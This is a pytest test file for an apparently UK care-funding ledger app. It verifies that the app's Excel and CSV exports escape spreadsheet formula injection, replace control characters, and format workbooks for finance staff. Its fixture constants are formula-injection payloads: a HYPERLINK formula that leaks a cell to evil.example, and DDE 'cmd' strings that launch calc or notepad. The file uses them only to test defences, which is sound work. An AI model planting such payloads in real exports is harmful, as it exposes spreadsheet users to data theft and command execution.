"""Text people typed never becomes a formula in an export (domain.md "Names and text"; issue 21
item 2): every workbook the app writes, opened with openpyxl, holds only the formulas the app
wrote itself, every CSV escapes a cell a spreadsheet would run, and control characters are
replaced, never a 500."""
from __future__ import annotations

import csv
import io
import re
from datetime import date

import openpyxl
import pytest
import sqlalchemy as sa

from isf_ledger import clock, sheets
from isf_ledger.db import db

NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
REFERENCE = "+cmd|' /C calc'!A0"
COUNCIL = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYEE = "=1+1"
CATEGORY = "=cmd|' /C notepad'!A0"
ARRANGEMENT = "-2+3+cmd|' /C calc'!A0"
BELL = "Ana\x07Bell\x1b"  # control characters a workbook cannot hold

# The formulas the app writes: the statement's totals over its Lines sheet, the shared-charge total.
APP_FORMULAS = re.compile(r'=(-?SUMIF\(Lines!\$F\$2:\$F\$\d+,"[A-Za-z ]+",Lines!\$G\$2:\$G\$\d+\)'
                          r"|B\d+-C\d+|B\d+(\+C\d+)+(-C\d+)+|SUM\(Lines!\$G\$2:\$G\$\d+\)"
                          r"|SUM\(F\d+:F\d+\)|F\d+=B2)")


@pytest.fixture
def book(api, monkeypatch):
    monkeypatch.setattr(clock, "today", lambda: date(2026, 11, 10))
    api.post("/api/v1/rates", {"service": "day_support", "unit": "hour", "rate": "18.50", "effective_from": "2026-01-01"})
    council = api.post("/api/v1/councils", {"name": COUNCIL})["id"]
    pid = api.person(NAME, council=COUNCIL, ref=REFERENCE)
    api.plan(pid, effective_from="2026-10-01")
    api.receipt(pid, "2000.00", "2026-10-01", reference=REFERENCE)
    api.post(f"/api/v1/people/{pid}/deliveries", {"date": "2026-10-05", "start_time": "10:00", "service": "day_support",
                                                  "quantity": "2.00", "status": "delivered", "domain": "health"})
    api.post(f"/api/v1/people/{pid}/spend", {"date": "2026-10-06", "amount": "12.50", "payee": PAYEE,
                                             "category": CATEGORY, "domain": "health", "description": NAME,
                                             "invoice_reference": REFERENCE})
    arr = api.post("/api/v1/shared-arrangements", {"name": ARRANGEMENT, "capacity": 2, "method": "equal",
                                                   "per_night": "10.00", "effective_from": "2026-10-01"})["id"]
    api.post(f"/api/v1/shared-arrangements/{arr}/members", {"person_id": pid, "weight": "1", "from": "2026-10-01",
                                                            "agreed_on": "2026-09-01", "recorded_by": PAYEE})
    api.post(f"/api/v1/shared-arrangements/{arr}/charges/2026-10", {})
    api.post("/api/v1/statements/2026-10/issue", {}, expect=200)
    bell = api.person("Bell", council=COUNCIL, ref="BELL-1")
    with api.app.app_context():  # however it was stored: the API may refuse such a name today
        db.session.execute(sa.text("UPDATE people SET name = :n WHERE id = :p"), {"n": BELL, "p": bell})
        db.session.commit()
    return {"pid": pid, "council": council, "arr": arr}


def _get(api, path):
    r = api.call("GET", path)
    assert r.status_code == 200, (path, r.status_code, r.get_data(as_text=True)[:500])
    return r.data


def workbooks(api, book):
    pid, council, arr = book["pid"], book["council"], book["arr"]
    return {
        "statement": _get(api, f"/api/v1/people/{pid}/statements/2026-10?format=xlsx"),
        "review pack": _get(api, f"/api/v1/people/{pid}/review-pack?from=2026-10-01&to=2026-10-31"),
        "dashboard": _get(api, "/api/v1/dashboard?format=xlsx&as_of=2026-10-31"),
        "actuals": _get(api, f"/api/v1/councils/{council}/actuals/2026-10?format=xlsx"),
        "shared charges": _get(api, f"/api/v1/shared-arrangements/{arr}/charges/2026-10?format=xlsx"),
    }


def test_no_export_holds_a_formula_the_app_did_not_write(api, book):
    hostile = {NAME, REFERENCE, COUNCIL, PAYEE, CATEGORY, ARRANGEMENT}
    for export, data in workbooks(api, book).items():
        wb = openpyxl.load_workbook(io.BytesIO(data))
        texts, formulas = set(), []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if c.data_type == "f":
                        formulas.append(c.value)
                    elif isinstance(c.value, str):
                        assert c.data_type == "s", (export, ws.title, c.coordinate, c.value)
                        texts.add(c.value)
        assert [f for f in formulas if not APP_FORMULAS.fullmatch(f)] == [], export
        assert bool(formulas) == (export in ("statement", "shared charges")), export
        found = {h for h in hostile if any(h in t for t in texts)}
        assert found, export  # each export carries some of the hostile text, as text
    wb = openpyxl.load_workbook(io.BytesIO(workbooks(api, book)["review pack"]))
    spend = [[c.value for c in row] for row in wb["Spend"].iter_rows(min_row=2)]
    category = api.get(f"/api/v1/people/{book['pid']}/spend")[0]["category"]  # stored as a slug, "=" first
    assert category.startswith("=") and spend[0][1:6] == [PAYEE, category, "Health", NAME, REFERENCE]
    assert all(c.quotePrefix for c in next(wb["Spend"].iter_rows(min_row=2, min_col=2, max_col=3)))


def test_control_characters_are_replaced_not_a_500(api, book):
    wb = openpyxl.load_workbook(io.BytesIO(_get(api, "/api/v1/dashboard?format=xlsx&as_of=2026-10-31")))
    names = [row[1] for row in wb["Funds"].iter_rows(min_row=2, values_only=True)]
    assert "Ana\ufffdBell\ufffd" in names and NAME in names
    rows = list(csv.reader(io.StringIO(_get(api, f"/api/v1/councils/{book['council']}/actuals/2026-10?format=csv")
                                       .decode())))
    assert sorted(r[7] for r in rows[1:]) == sorted(["'" + NAME, "Ana\ufffdBell\ufffd"])


def test_csv_cells_a_spreadsheet_would_run_are_escaped(api, book):
    rows = list(csv.DictReader(io.StringIO(
        _get(api, f"/api/v1/councils/{book['council']}/actuals/2026-10?format=csv").decode())))
    ours = next(r for r in rows if r["person_id"] == str(book["pid"]))
    assert (ours["name"], ours["council"], ours["council_reference"]) == ("'" + NAME, "'" + COUNCIL, "'" + REFERENCE)
    assert ours["support_cost"] == "37.00" and ours["shared_support"] == "155.00"
    admin = api.user("admin", name=PAYEE)
    api.call("POST", "/api/v1/councils", {"name": "Westmere"}, token=admin)
    r = api.call("GET", "/api/v1/audit-log?format=csv", token=admin)
    log = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    assert "'" + PAYEE in {e["user_name"] for e in log} and PAYEE not in {e["user_name"] for e in log}


@pytest.mark.parametrize("text, csv_text", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"), ("-12.50", "-12.50"), ("-5", "-5"), ("Ana", "Ana"),
    ("a\x00b\x1fc", "a\ufffdb\ufffdc"), ("O’Brien", "O’Brien"), ("", "")])
def test_csv_cell(text, csv_text):
    assert sheets.csv_cell(text) == csv_text
    assert sheets.csv_cell(12) == 12


def test_workbooks_a_finance_person_can_use_as_they_come(api, book):
    """Issue 23 item 5: real dates in a date format, money in £, headings in words, header rows
    frozen and filtered, columns fitted, every sheet printed to the page's width."""
    from datetime import datetime

    books = {k: openpyxl.load_workbook(io.BytesIO(v)) for k, v in workbooks(api, book).items()}
    for export, wb in books.items():
        for ws in wb.worksheets:
            assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1, (export, ws.title)
            for row in ws.iter_rows():
                for c in row:
                    if isinstance(c.value, datetime):
                        assert c.number_format in (sheets.DATE, sheets.DATE_TIME), (export, ws.title, c.coordinate)
                    if isinstance(c.value, str) and c.data_type == "s" and len(c.value) < sheets.MAX_WIDTH - 2 \
                            and c.row > 1 and ws.title not in ("Summary", "Statement") and c.column != 1:
                        width = ws.column_dimensions[c.column_letter].width
                        assert width >= len(c.value), (export, ws.title, c.coordinate, width, c.value)

    lines = books["statement"]["Lines"]
    assert (lines.freeze_panes, lines.auto_filter.ref) == ("A2", f"A1:G{lines.max_row}")
    first = [c for c in lines[2]]
    assert isinstance(first[1].value, datetime) and first[1].number_format == sheets.DATE
    assert first[6].number_format == sheets.GBP
    statement = books["statement"]["Statement"]
    hours = next(row for row in statement.iter_rows() if row[0].value == "Hours")
    assert [c.value for c in hours[1:4]] == ["Planned", "Delivered", "Refused"]
    assert statement["B8"].number_format == sheets.GBP and statement["C8"].data_type == "f"

    funds = books["dashboard"]["Funds"]
    head = [c.value for c in funds[1]]
    assert head[-2:] == ["Closed on", "Alerts"] and funds.freeze_panes == "A2"
    assert funds.auto_filter.ref == f"A1:{funds.cell(1, len(head)).column_letter}3"
    assert {funds.cell(r, head.index("Balance") + 1).number_format for r in (2, 3)} == {sheets.GBP}
    assert books["dashboard"]["Totals"]["B3"].number_format == sheets.GBP

    actuals = books["actuals"].active
    head = [c.value for c in actuals[1]]
    assert head[:4] == ["Row", "Month", "Period start", "Period end"] and "Planned hours" in head
    ours = next(row for row in actuals.iter_rows(min_row=2) if row[6].value == book["pid"])
    assert isinstance(ours[2].value, datetime) and ours[2].number_format == sheets.DATE
    assert ours[head.index("Support cost")].number_format == sheets.GBP
    assert ours[head.index("Delivered hours")].number_format == sheets.QUANTITY
    assert ours[head.index("Support cost")].value == 37

    pack = books["review pack"]
    ledger = pack["Ledger"]
    assert (ledger.freeze_panes, ledger.auto_filter.ref) == ("A2", f"A1:K{ledger.max_row}")  # a row a transaction
    assert ledger["B2"].number_format == sheets.DATE and ledger["I2"].number_format == '"£"#,##0.00;-"£"#,##0.00'
    assert pack["Spend"]["A2"].number_format == sheets.DATE

    shared = books["shared charges"].active
    assert shared["B2"].number_format == sheets.GBP and shared["F6"].number_format == sheets.GBP
